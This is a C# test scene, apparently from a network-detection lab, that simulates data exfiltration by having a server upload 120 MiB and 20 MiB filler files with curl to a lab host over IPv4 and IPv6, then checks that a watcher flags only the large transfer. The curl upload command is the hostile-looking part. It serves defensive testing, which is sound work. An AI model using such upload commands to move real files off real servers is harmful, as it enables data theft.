using System.Globalization;
using System.Net;
using Blackwall.Lab.Servers;

namespace Blackwall.Lab.Story.Scenes;

/// <summary>curl carries a large file away from inside, over both families. It is told; an upload of ordinary size is not.</summary>
public sealed class ExfiltrationScene(int guest) : IScene
{
    private const long StolenBytes = 120L << 20;
    private const long OrdinaryBytes = 20L << 20;
    private static readonly TimeSpan s_limit = TimeSpan.FromSeconds(60);

    public string Title => "Data carried away (curl)";

    public async Task PlayAsync(Play play, CancellationToken cancellation)
    {
        var (stage, server) = (play.Stage, play.Stage.Network.Server);
        var outside = await stage.Network.AddGuestAsync(guest);
        await using var box = await DropBox.StartAsync(outside, stage.Run, cancellation);
        play.Narrator.Say(string.Create(CultureInfo.InvariantCulture, $"the server sends {StolenBytes >> 20} MiB to a stranger, and {OrdinaryBytes >> 20} MiB from another address, over IPv4 and over IPv6"));
        var watch = new InsideWatch(play, Title);
        foreach (var (user, thief, where) in new[]
        {
            (server.Addresses4[1], server.Addresses4[0], outside.Addresses4[0]),
            (server.Addresses6[1], server.Addresses6[0], outside.Addresses6[0]),
        })
        {
            play.Facts.Is(Title, $"bytes that {user} sent", $"{OrdinaryBytes}", await SendAsync(stage, user, where, OrdinaryBytes, cancellation));
            play.Facts.Is(Title, $"bytes that {thief} sent", $"{StolenBytes}", await SendAsync(stage, thief, where, StolenBytes, cancellation));
            await watch.ToldAsync(thief, "exfiltration", cancellation);
            await watch.NotToldAsync(user, "exfiltration", cancellation);
        }

        await watch.NobodyActedOnAsync([.. outside.Addresses4, .. outside.Addresses6, .. server.Addresses4, .. server.Addresses6], cancellation);
    }

    private static async Task<string> SendAsync(Stage stage, IPAddress from, IPAddress where, long bytes, CancellationToken cancellation)
    {
        var file = stage.Run.File(string.Create(CultureInfo.InvariantCulture, $"secret-{bytes}"));
        await using (var hole = System.IO.File.Open(file, FileMode.OpenOrCreate, FileAccess.Write))
        {
            hole.SetLength(bytes);
        }

        var host = where.AddressFamily == System.Net.Sockets.AddressFamily.InterNetworkV6 ? $"[{where}]" : $"{where}";
        var sent = await stage.Network.Server.Network.TryAsync(
            ["curl", "-s", "-o", "/dev/null", "-w", "%{size_upload}", "--interface", $"{from}", "-H", "Expect:", "-T", file, $"http://{host}/box"],
            s_limit,
            cancellation);
        return sent.Output.Trim();
    }
}
